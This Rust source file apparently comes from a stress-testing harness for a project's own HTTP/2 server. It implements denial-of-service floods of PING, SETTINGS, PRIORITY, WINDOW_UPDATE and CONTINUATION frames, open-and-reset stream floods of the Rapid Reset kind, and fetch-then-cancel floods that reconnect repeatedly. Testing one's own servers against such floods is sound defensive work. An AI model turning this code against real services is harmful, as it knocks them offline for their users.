//! Attackers that send frames as fast as they can. Whose connection is closed connects again.

use std::time::Duration;

use tacit_proto::v2;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::Attack;
use super::stage::Stage;
use crate::raw::frame::{
    PAYLOAD_BYTES_MAX, call_fields, data, fields, frame, headers, kind, message,
};
use crate::raw::{Connection, Door, path};

/// Connections of identities, and as many of strangers.
const CONNECTIONS: usize = 4;
/// Frames of one batch.
const BATCH: u32 = 512;
/// Calls of one batch: as many as a connection may have.
const CALLS: u32 = 16;
/// Who was turned away comes again after this time.
const AGAIN: Duration = Duration::from_millis(100);

/// Floods with frames of one kind.
pub(super) async fn flood(stage: Stage, attack: Attack) {
    let mut flooding = JoinSet::new();
    let known = stage.doors.iter().take(CONNECTIONS);
    let strangers = stage.strangers.iter().take(CONNECTIONS);
    for door in known.chain(strangers) {
        let (stage, door) = (stage.clone(), door.clone());
        flooding.spawn(async move {
            loop {
                flood_once(&stage, &door, attack).await;
                sleep(AGAIN).await;
            }
        });
    }
    while flooding.join_next().await.is_some() {}
}

/// One connection, until it is closed.
async fn flood_once(stage: &Stage, door: &Door, attack: Attack) {
    let Some(connection) = stage.opened(door.connect().await) else {
        return;
    };
    let (mut answers, mut to) = Connection::split(connection);
    // Who does not read is held up by its own window; a flood takes its answers.
    let reading = async {
        let mut buffer = vec![0; 1 << 16];
        while answers
            .read(&mut buffer)
            .await
            .is_ok_and(|read| read > 0)
        {}
    };
    let writing = async {
        let mut first = 1;
        loop {
            let (bytes, frames) = batch(attack, first, stage);
            if to.write_all(&bytes).await.is_err() || to.flush().await.is_err() {
                return;
            }
            stage.count(|counts| &counts.sent, u64::from(frames));
            first += 2 * frames;
            if attack == Attack::FetchAndReset {
                sleep(Duration::from_millis(2)).await;
            }
            tokio::task::yield_now().await;
        }
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
    stage.count(|counts| &counts.closed, 1);
}

/// The next frames, and how many they are; `first` is a stream that was not used yet.
fn batch(attack: Attack, first: u32, stage: &Stage) -> (Vec<u8>, u32) {
    let streams = |count: u32| (0..count).map(move |number| first + 2 * number);
    let repeated = |one: Vec<u8>| (one.repeat(BATCH as usize), BATCH);
    match attack {
        Attack::Ping => repeated(frame(kind::PING, 0, 0, &[7; 8])),
        Attack::Settings => repeated(frame(kind::SETTINGS, 0, 0, &[])),
        Attack::Priority => repeated(frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
        Attack::WindowUpdate => repeated(frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        Attack::Continuation => {
            let part = frame(kind::CONTINUATION, 0, 1, &fields(&[("x", "y")]));
            let call = call_fields(&path("CheckIn"), &[]);
            let begin = frame(kind::HEADERS, 0, 1, &call);
            let begin = if first == 1 { begin } else { Vec::new() };
            ([begin, part.repeat(BATCH as usize)].concat(), BATCH)
        }
        Attack::FetchAndReset => {
            let hash = stage.object.clone();
            let request = message(&v2::FetchRequest { hash });
            let begun = streams(CALLS).flat_map(|stream| {
                let body = data(stream, PAYLOAD_BYTES_MAX, true, &request);
                [begin(stream, "Fetch"), body].concat()
            });
            let reset = streams(CALLS).flat_map(reset);
            (begun.chain(reset).collect(), CALLS)
        }
        _ => {
            let call = |stream| [begin(stream, "CheckIn"), reset(stream)].concat();
            (streams(BATCH).flat_map(call).collect(), BATCH)
        }
    }
}

fn begin(stream: u32, call: &str) -> Vec<u8> {
    headers(stream, 0, &call_fields(&path(call), &[]))
}

fn reset(stream: u32) -> Vec<u8> {
    /// CANCEL of RFC 9113, section 7.
    const CANCEL: u32 = 8;
    frame(kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
}
